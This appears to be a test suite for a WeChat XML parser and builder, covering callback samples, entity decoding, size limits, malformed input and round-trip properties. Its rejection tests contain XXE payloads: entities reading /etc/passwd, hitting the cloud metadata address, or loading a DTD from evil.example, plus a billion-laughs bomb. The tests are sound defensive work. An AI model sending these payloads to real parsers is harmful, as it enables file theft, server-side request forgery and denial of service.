import fc from 'fast-check';
import { AppError } from '../domain/errors';
import * as z from '../domain/zod';
import { thrownBy } from '../runtime/shim/testing';
import { AUDIT_SUCCESS_FIELDS } from './fixtures/audit-success';
import {
  buildWeChatXml,
  DEFAULT_MAX_XML_BYTES,
  parseAnyDocument,
  parseFlatDocument,
  parseWeChatXml,
  type WeChatXmlFields,
  type WeChatXmlInput,
  type WeChatXmlInputValue,
  type WeChatXmlValue,
  XmlForbiddenConstructError,
  XmlParseError,
  XmlTooLargeError,
} from './xml';

function expectXmlError(xml: string, errorClass: new (message: string) => AppError, code: string, maxBytes?: number): void {
  const error = thrownBy(() => parseWeChatXml(xml, maxBytes === undefined ? {} : { maxBytes }));
  expect(error).toBeInstanceOf(errorClass);
  expect(error).toMatchObject({ code });
}

describe('parseWeChatXml: documents WeChat sends', () => {
  test('component_verify_ticket (reference §2, plain text values)', () => {
    expect(
      parseWeChatXml(
        '<xml><AppId>some_appid</AppId><CreateTime>1413192605</CreateTime><InfoType>component_verify_ticket</InfoType><ComponentVerifyTicket>some_verify_ticket</ComponentVerifyTicket></xml>',
      ),
    ).toEqual({
      AppId: 'some_appid',
      CreateTime: '1413192605',
      InfoType: 'component_verify_ticket',
      ComponentVerifyTicket: 'some_verify_ticket',
    });
  });

  test('authorized, CDATA values, numbers stay strings and zod coerces them', () => {
    const fields = parseWeChatXml(
      '<xml><AppId><![CDATA[wx134c8103faa5a59e]]></AppId><CreateTime>1413192760</CreateTime><InfoType><![CDATA[authorized]]></InfoType><AuthorizerAppid><![CDATA[wxba5fad812f8e6fb9]]></AuthorizerAppid><AuthorizationCode><![CDATA[queryauthcode@@@abc]]></AuthorizationCode><AuthorizationCodeExpiredTime>1413196360</AuthorizationCodeExpiredTime><PreAuthCode><![CDATA[preauthcode@@@xyz]]></PreAuthCode></xml>',
    );
    expect(fields.CreateTime).toBe('1413192760');
    const schema = z.object({
      InfoType: z.literal('authorized'),
      AuthorizerAppid: z.string(),
      CreateTime: z.coerce.number().check(z.int()),
      AuthorizationCodeExpiredTime: z.coerce.number().check(z.int()),
    });
    expect(schema.parse(fields)).toEqual({
      InfoType: 'authorized',
      AuthorizerAppid: 'wxba5fad812f8e6fb9',
      CreateTime: 1413192760,
      AuthorizationCodeExpiredTime: 1413196360,
    });
  });

  test('weapp_audit_fail (reference §5): markup inside CDATA is text, ScreenShot is one string', () => {
    expect(
      parseWeChatXml(
        '<xml><ToUserName><![CDATA[gh_fb9688c2a4b2]]></ToUserName><FromUserName><![CDATA[od1P50M-fNQI5Gcq-trm4a7apsU8]]></FromUserName><CreateTime>1488856591</CreateTime><MsgType><![CDATA[event]]></MsgType><Event><![CDATA[weapp_audit_fail]]></Event><Reason><![CDATA[1:账号信息不符合规范:<br>(1):包含色情因素<br>2:服务类目"金融业-保险_"与你提交代码审核时设置的功能页面内容不一致:<br>(1):功能页面设置的部分标签不属于所选的服务类目范围。<br>(2):功能页面设置的部分标签与该页面内容不相关。<br>]]></Reason><FailTime>1488856591</FailTime><ScreenShot>xxx|yyy|zzz</ScreenShot></xml>',
      ),
    ).toMatchObject({
      Event: 'weapp_audit_fail',
      Reason: expect.stringContaining('账号信息不符合规范:<br>(1)'),
      FailTime: '1488856591',
      ScreenShot: 'xxx|yyy|zzz',
    });
  });

  test('a pretty-printed envelope (reference §1.2): indentation is not content', () => {
    expect(
      parseWeChatXml(
        '<?xml version="1.0" encoding="UTF-8"?>\n<xml>\n    <ToUserName><![CDATA[gh_97417a04a28d]]></ToUserName>\n    <Encrypt><![CDATA[D7yz+/==]]></Encrypt>\n</xml>\n',
      ),
    ).toEqual({ ToUserName: 'gh_97417a04a28d', Encrypt: 'D7yz+/==' });
  });

  test('the encrypted reply layout of Tencent’s samples (reference §1.6)', () => {
    expect(
      parseWeChatXml(
        '<xml>\n<Encrypt><![CDATA[abc]]></Encrypt>\n<MsgSignature><![CDATA[def]]></MsgSignature>\n<TimeStamp>1411525903</TimeStamp>\n<Nonce><![CDATA[461056294]]></Nonce>\n</xml>',
      ),
    ).toEqual({ Encrypt: 'abc', MsgSignature: 'def', TimeStamp: '1411525903', Nonce: '461056294' });
  });

  test('nested elements become objects, repeated ones arrays (in document order)', () => {
    const fields = parseWeChatXml(
      '<xml><AuthorizerInfo><NickName><![CDATA[demo]]></NickName><ServiceTypeInfo><id>2</id></ServiceTypeInfo></AuthorizerInfo>' +
        '<Item><Id>1</Id></Item><Item><Id>2</Id></Item><Tag>a</Tag><Tag><![CDATA[b]]></Tag><Tag/></xml>',
    );
    expect(fields).toEqual({
      AuthorizerInfo: { NickName: 'demo', ServiceTypeInfo: { id: '2' } },
      Item: [{ Id: '1' }, { Id: '2' }],
      Tag: ['a', 'b', ''],
    });
  });

  test('value handling: CDATA verbatim, plain text trimmed and entity-decoded, empty elements are ""', () => {
    expect(
      parseWeChatXml(
        '<xml><Raw><![CDATA[  keep\n  me  ]]></Raw><Plain>\n  1488856741\n</Plain><Esc>a &lt;b&gt; &amp; &quot;c&quot; &apos;d&apos; &#65;&#x42;&#x1F600;</Esc>' +
          '<Split><![CDATA[a]]]]><![CDATA[>b]]></Split><E1/><E2></E2><E3><![CDATA[]]></E3><Zero>007</Zero><Exp>1e3</Exp></xml>',
      ),
    ).toEqual({
      Raw: '  keep\n  me  ',
      Plain: '1488856741',
      Esc: 'a <b> & "c" \'d\' AB😀',
      Split: 'a]]>b',
      E1: '',
      E2: '',
      E3: '',
      Zero: '007',
      Exp: '1e3',
    });
  });

  test('comments and processing instructions are ignored; attributes are dropped', () => {
    expect(parseWeChatXml('<?xml version="1.0"?><!-- hi --><xml a="1"><A b="2">1<!-- x -->2</A><?pi x?></xml>')).toEqual({ A: '12' });
  });

  test('an empty root is an empty object', () => {
    expect(parseWeChatXml('<xml/>')).toEqual({});
    expect(parseWeChatXml('<xml>\n</xml>')).toEqual({});
  });

  test('names that collide with Object.prototype become own properties and touch no prototype', () => {
    const fields = parseWeChatXml('<xml><toString>a</toString><hasOwnProperty>b</hasOwnProperty><valueOf><x>1</x></valueOf></xml>');
    expect(Object.keys(fields)).toEqual(['toString', 'hasOwnProperty', 'valueOf']);
    expect(fields.toString).toBe('a');
    expect(fields.valueOf).toEqual({ x: '1' });
    expect(Object.getPrototypeOf(fields)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>).toString).toBe(Object.prototype.toString);
  });
});

describe('parseWeChatXml: rejected documents', () => {
  const xxe = {
    'external entity (file)':
      '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Encrypt>&xxe;</Encrypt></xml>',
    'external entity (http)': '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><xml><A>&xxe;</A></xml>',
    'parameter entity': '<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><xml/>',
    'external DTD': '<!DOCTYPE xml SYSTEM "http://evil.example/x.dtd"><xml/>',
    'billion laughs':
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
      '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><xml><A>&lol4;</A></xml>',
    'lower-case doctype': '<!doctype xml><xml/>',
    'whitespace before the keyword': '<! DOCTYPE xml><xml/>',
    'bare ENTITY declaration': '<xml><!ENTITY a "b"></xml>',
    'DOCTYPE text inside CDATA (the ban is textual, on purpose)': '<xml><A><![CDATA[<!DOCTYPE x>]]></A></xml>',
  };

  test.each(Object.entries(xxe))('%s', (_label, xml) => {
    expectXmlError(xml, XmlForbiddenConstructError, 'WECHAT_XML_FORBIDDEN');
  });

  test('over the default 64 KiB', () => {
    const filler = 'a'.repeat(DEFAULT_MAX_XML_BYTES);
    expectXmlError(`<xml><A>${filler}</A></xml>`, XmlTooLargeError, 'WECHAT_XML_TOO_LARGE');
    const error = thrownBy(() => parseWeChatXml(`<xml><A>${filler}</A></xml>`));
    expect(error).toMatchObject({ category: 'too-large', details: { maxBytes: 65536 } });
  });

  test('the limit counts UTF-8 bytes, not characters, and is configurable', () => {
    const doc = `<xml><A><![CDATA[${'中'.repeat(100)}]]></A></xml>`; // 100 chars, 300 bytes of content
    expect(doc.length).toBeLessThan(200);
    expectXmlError(doc, XmlTooLargeError, 'WECHAT_XML_TOO_LARGE', 200);
    expect(parseWeChatXml(doc, { maxBytes: Buffer.byteLength(doc) })).toEqual({ A: '中'.repeat(100) });
    expectXmlError(doc, XmlTooLargeError, 'WECHAT_XML_TOO_LARGE', Buffer.byteLength(doc) - 1);
  });

  test('size is checked before anything else (a huge DOCTYPE bomb is "too large", not parsed)', () => {
    const bomb = `<!DOCTYPE x [${'<!ENTITY a "b">'.repeat(10_000)}]><xml/>`;
    expectXmlError(bomb, XmlTooLargeError, 'WECHAT_XML_TOO_LARGE');
  });

  const malformed = {
    empty: '',
    whitespace: '   ',
    'not XML': 'success',
    JSON: '{"xml": {}}',
    'root is not xml': '<root><A>1</A></root>',
    'root is XML (case matters)': '<XML><A>1</A></XML>',
    'two roots': '<xml/><xml/>',
    'text after the root': '<xml><A>1</A></xml>trailing',
    'text before the root': 'x<xml/>',
    'CDATA outside the root': '<![CDATA[x]]><xml/>',
    unclosed: '<xml><A>1</A>',
    'unclosed child': '<xml><A>1</xml>',
    mismatched: '<xml><A>1</B></xml>',
    'unterminated CDATA': '<xml><A><![CDATA[1</A></xml>',
    'bare ampersand': '<xml><A>a & b</A></xml>',
    'unknown entity': '<xml><A>&nbsp;</A></xml>',
    'entity without semicolon': '<xml><A>&amp</A></xml>',
    'character reference to NUL': '<xml><A>&#0;</A></xml>',
    'character reference out of range': '<xml><A>&#x110000;</A></xml>',
    '"]]>" in text': '<xml><A>a]]>b</A></xml>',
    'mixed content': '<xml>text<A>1</A></xml>',
    'mixed content with CDATA': '<xml><A>1</A><![CDATA[x]]></xml>',
    'a control character': '<xml><A>\u0001</A></xml>',
    'a lone surrogate': '<xml><A>\ud800</A></xml>',
    '__proto__ element': '<xml><__proto__><A>1</A></__proto__></xml>',
    'constructor element': '<xml><constructor>1</constructor></xml>',
    'boolean attribute': '<xml><A b>1</A></xml>',
    'too deep': `${'<a>'.repeat(40)}${'</a>'.repeat(40)}`.replace(/^<a>/, '<xml>').replace(/<\/a>$/, '</xml>'),
  };

  test.each(Object.entries(malformed))('%s', (_label, xml) => {
    expectXmlError(xml, XmlParseError, 'WECHAT_XML_INVALID');
  });

  test('the errors are AppErrors with the documented codes and categories', () => {
    const errors = [new XmlParseError('x'), new XmlTooLargeError('x'), new XmlForbiddenConstructError('x')];
    expect(errors.map((e) => [e instanceof AppError, e.code, e.category])).toEqual([
      [true, 'WECHAT_XML_INVALID', 'invalid'],
      [true, 'WECHAT_XML_TOO_LARGE', 'too-large'],
      [true, 'WECHAT_XML_FORBIDDEN', 'invalid'],
    ]);
  });
});

describe('buildWeChatXml', () => {
  test('strings in CDATA, numbers bare, on one line, in key order', () => {
    expect(buildWeChatXml(AUDIT_SUCCESS_FIELDS)).toBe(
      '<xml><ToUserName><![CDATA[gh_fb9688c2a4b2]]></ToUserName><CreateTime>1488856741</CreateTime><MsgType><![CDATA[event]]></MsgType><Event><![CDATA[weapp_audit_success]]></Event><SuccTime>1488856741</SuccTime></xml>',
    );
  });

  test('nested objects, arrays as repeated elements, undefined skipped', () => {
    expect(buildWeChatXml({ A: { B: 'x', C: 2, D: undefined }, L: ['1', 2, { Z: 'z' }], U: undefined })).toBe(
      '<xml><A><B><![CDATA[x]]></B><C>2</C></A><L><![CDATA[1]]></L><L>2</L><L><Z><![CDATA[z]]></Z></L></xml>',
    );
  });

  test('"]]>", "<!" and "\\r" are escaped so the value survives exactly', () => {
    const value = ']]>a]]]>b<!DOCTYPE x [<!ENTITY e "f">]>c\r\nd\re]]';
    const xml = buildWeChatXml({ V: value });
    expect(xml).not.toMatch(/<!\s*(DOCTYPE|ENTITY)/i);
    expect(xml).not.toContain('\r');
    expect(parseWeChatXml(xml)).toEqual({ V: value });
    expect(buildWeChatXml({ V: 'a]]>b' })).toBe('<xml><V><![CDATA[a]]]]><![CDATA[>b]]></V></xml>');
  });

  test.each([
    ['an invalid element name', { 'bad name': 'x' }],
    ['a name starting with a digit', { '1A': 'x' }],
    ['__proto__', Object.fromEntries([['__proto__', 'x']])],
    ['a nested invalid name', { A: { '<b>': 'x' } }],
    ['NaN', { A: Number.NaN }],
    ['Infinity', { A: Number.POSITIVE_INFINITY }],
    ['a control character', { A: 'a\u0000b' }],
    ['a lone surrogate', { A: '\udc00' }],
  ])('refuses %s with a TypeError', (_label, fields) => {
    expect(() => buildWeChatXml(fields)).toThrow(TypeError);
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Properties

const TYPED = [XmlParseError, XmlTooLargeError, XmlForbiddenConstructError];
function parsesOrThrowsTyped(xml: string, maxBytes?: number): void {
  try {
    const fields = parseWeChatXml(xml, maxBytes === undefined ? {} : { maxBytes });
    expect(typeof fields).toBe('object');
  } catch (error) {
    if (!TYPED.some((cls) => error instanceof cls)) throw error;
  }
}

/** Fragments that steer random strings into the parser's interesting corners. */
const xmlish = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        '<xml>',
        '</xml>',
        '<xml/>',
        '<A>',
        '</A>',
        '<B/>',
        '<![CDATA[',
        ']]>',
        '<!--',
        '-->',
        '<?xml version="1.0"?>',
        '<?',
        '?>',
        '&amp;',
        '&lt;',
        '&#x41;',
        '&#0;',
        '&',
        ';',
        '<!DOCTYPE',
        '<!ENTITY',
        '<',
        '>',
        '/',
        '"',
        "'",
        '=',
        ' ',
        '\n',
        '\r',
        '__proto__',
        'constructor',
        'toString',
        'a="1"',
        '\u0000',
        '\ud800',
      ),
      fc.string({ unit: 'binary', maxLength: 5 }),
    ),
    { maxLength: 40 },
  )
  .map((parts) => parts.join(''));

/** Element names: the XML_NAME subset, minus the three names fast-xml-parser refuses. */
const elementName = fc
  .stringMatching(/^[A-Za-z_][A-Za-z0-9_.-]{0,11}$/)
  .filter((n) => !['__proto__', 'constructor', 'prototype'].includes(n));

const xmlSafeString = fc
  .string({ unit: 'binary', maxLength: 30 })
  .map((s) => s.replace(/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/gu, '\uFFFD'));
const nastyString = fc.oneof(
  xmlSafeString,
  fc
    .array(fc.constantFrom(']]>', ']]', ']', '>', '<!', '<![CDATA[', '<!DOCTYPE', '&amp;', '&', '\r', '\r\n', ' ', '\t', 'x', '中', '😀'))
    .map((a) => a.join('')),
);

const { input: fieldMap } = fc.letrec<{ input: WeChatXmlInput; value: WeChatXmlInputValue }>((tie) => ({
  input: fc.dictionary(elementName, tie('value'), { maxKeys: 5 }),
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    nastyString,
    fc.integer(),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    tie('input'),
    fc.array(fc.oneof(nastyString, fc.integer(), tie('input')), { maxLength: 4 }),
  ),
}));

/** What parsing a built document must give back: numbers as their text, `{}` as "", one-element arrays unwrapped. */
function expectedParse(input: WeChatXmlInput): WeChatXmlFields {
  const out: WeChatXmlFields = {};
  for (const [name, value] of Object.entries(input)) {
    if (value === undefined) continue;
    const items = Array.isArray(value) ? value : [value];
    const converted = items.map((item: string | number | WeChatXmlInput): string | WeChatXmlFields =>
      typeof item === 'number' ? String(item) : typeof item === 'string' ? item : emptyToString(expectedParse(item)),
    );
    const first = converted[0];
    if (first === undefined) continue;
    const result: WeChatXmlValue = converted.length === 1 ? first : converted;
    Object.defineProperty(out, name, { value: result, enumerable: true, writable: true, configurable: true });
  }
  return out;
}
const emptyToString = (fields: WeChatXmlFields): string | WeChatXmlFields => (Object.keys(fields).length === 0 ? '' : fields);

describe('properties', () => {
  test('arbitrary strings either parse or throw one of the typed XML errors', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (s) => parsesOrThrowsTyped(s)),
      { numRuns: 1000 },
    );
  });

  test('XML-like noise either parses or throws one of the typed XML errors', () => {
    fc.assert(
      fc.property(xmlish, fc.option(fc.integer({ min: 0, max: 300 }), { nil: undefined }), (s, maxBytes) =>
        parsesOrThrowsTyped(s, maxBytes),
      ),
      { numRuns: 3000 },
    );
  });

  test('build → parse round-trips arbitrary field maps', () => {
    fc.assert(
      fc.property(fieldMap, (fields) => {
        const xml = buildWeChatXml(fields);
        expect(parseWeChatXml(xml, { maxBytes: 1 << 20 })).toEqual(expectedParse(fields));
      }),
      { numRuns: 500 },
    );
  });

  test('build → parse is the identity on flat string maps', () => {
    fc.assert(
      fc.property(fc.dictionary(elementName, nastyString, { maxKeys: 8 }), (fields) => {
        expect(parseWeChatXml(buildWeChatXml(fields))).toEqual(fields);
      }),
      { numRuns: 500 },
    );
  });

  /** The fast path may decline (undefined) but never disagree: same fields, or the general parser refuses too. */
  const agreesWithGeneralParser = (xml: string): boolean => {
    const fast = parseFlatDocument(xml);
    if (fast === undefined) return false;
    let general: unknown;
    try {
      general = parseAnyDocument(xml);
    } catch (error) {
      throw new Error(`fast path accepted ${JSON.stringify(xml)} as ${JSON.stringify(fast)}, general parser refused it: ${String(error)}`);
    }
    expect(fast).toEqual(general);
    expect(Object.getPrototypeOf(fast)).toBe(Object.prototype);
    return true;
  };

  /** Flat documents and near misses: the fragments the scanner branches on, in random order around real fields. */
  const flatish = fc
    .tuple(
      fc.oneof({ arbitrary: fc.constant(''), weight: 6 }, fc.constantFrom(' ', '\n', '\t', '\r\n', '\ufeff', '<?xml version="1.0"?>')),
      fc.array(
        fc.oneof(
          {
            arbitrary: fc
              .tuple(elementName, nastyString)
              .map(([name, value]) => `<${name}>${value.includes(']]>') ? value : `<![CDATA[${value}]]>`}</${name}>`),
            weight: 8,
          },
          {
            arbitrary: fc
              .tuple(elementName, fc.oneof(xmlSafeString, fc.constantFrom(' 1715943329 ', '', '  ', 'a b', '&amp;', 'a]]b', '>')))
              .map(([name, value]) => `<${name}>${value}</${name}>`),
            weight: 6,
          },
          { arbitrary: elementName.map((name) => `<${name}/>`), weight: 2 },
          fc.constantFrom(
            '<A></B>',
            '<A/ >',
            '<A />',
            '<A b="1">x</A>',
            '<A><B>x</B></A>',
            '<!-- c -->',
            '<A><![CDATA[x]]> </A>',
            '<A> <![CDATA[x]]></A>',
            '<A><![CDATA[x]]><![CDATA[y]]></A>',
            '<A><![CDATA[x]]>&#13;<![CDATA[y]]></A>',
            '<A>x',
            '</A>',
            '<>',
            '< A>x</ A>',
            '<xml>y</xml>',
            '<A>1</A >',
            '<__proto__>x</__proto__>',
            '<constructor/>',
            '<toString>t</toString>',
            '\n',
            ' ',
            '\t',
            'stray',
            '<?pi x?>',
            '<A>\u00a0x\u00a0</A>',
          ),
        ),
        { maxLength: 8 },
      ),
      fc.oneof({ arbitrary: fc.constantFrom('</xml>', '</xml>\n'), weight: 8 }, fc.constantFrom('</xml> x', '', '</XML>', '</xml></xml>')),
    )
    .map(([head, body, tail]) => `${head}<xml>${body.join('')}${tail}`);

  test('the flat fast path agrees with the general parser on flat documents and near misses', () => {
    let taken = 0;
    fc.assert(
      fc.property(flatish, (xml) => {
        if (agreesWithGeneralParser(xml)) taken++;
      }),
      { numRuns: 5000 },
    );
    // Most generated documents are flat: the property would be vacuous if the fast path declined them all.
    expect(taken).toBeGreaterThan(1000);
  });

  test('the flat fast path agrees with the general parser on built documents and on noise', () => {
    fc.assert(
      fc.property(
        fc.dictionary(elementName, nastyString, { maxKeys: 8 }),
        (fields) => void agreesWithGeneralParser(buildWeChatXml(fields)),
      ),
      { numRuns: 1000 },
    );
    fc.assert(
      fc.property(xmlish, (xml) => void agreesWithGeneralParser(xml)),
      { numRuns: 3000 },
    );
  });

  test('the fast path takes the documents WeChat actually sends', () => {
    const envelope = '<xml>\n<ToUserName><![CDATA[wx570bc396a51b8ff8]]></ToUserName>\n<Encrypt><![CDATA[abc+/=]]></Encrypt>\n</xml>';
    expect(parseFlatDocument(envelope)).toEqual({ ToUserName: 'wx570bc396a51b8ff8', Encrypt: 'abc+/=' });
    const audit =
      '<xml><ToUserName><![CDATA[gh_fd189404d989]]></ToUserName><CreateTime>1488856741</CreateTime><MsgType><![CDATA[event]]></MsgType><Event><![CDATA[weapp_audit_success]]></Event><SuccTime>1488856741</SuccTime></xml>';
    expect(parseFlatDocument(audit)).toEqual({
      ToUserName: 'gh_fd189404d989',
      CreateTime: '1488856741',
      MsgType: 'event',
      Event: 'weapp_audit_success',
      SuccTime: '1488856741',
    });
  });
});
